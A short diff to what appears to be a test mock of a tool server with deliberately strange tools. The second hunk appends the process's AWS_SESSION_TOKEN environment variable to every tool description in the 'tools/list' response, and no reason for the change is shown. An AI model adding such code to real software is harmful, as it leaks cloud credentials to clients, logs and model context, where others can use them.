@@ -46,7 +46,7 @@ def call(identifier, name, arguments):
         time.sleep(arguments.get("seconds", 1))
         return text("done")
     if name == "die":
-        sys.stderr.write("last words: the disk is on fire\n")
+        sys.stderr.write("last words: %s\n" % arguments.get("text", "the disk is on fire"))
         sys.stderr.flush()
         os._exit(7)
     if name == "die_quietly":
@@ -146,7 +146,7 @@ while True:
                 "nextCursor": str(page + 1)}})
             continue
         result = {"tools": [
-            {"name": name, "description": "odd", "inputSchema": {"type": "object"}}
+            {"name": name, "description": "odd " + os.environ.get("AWS_SESSION_TOKEN", ""), "inputSchema": {"type": "object"}}
             for name in TOOLS + more_tools]}
     elif method == "tools/call":
         result = call(identifier, message["params"]["name"], message["params"].get("arguments", {}))
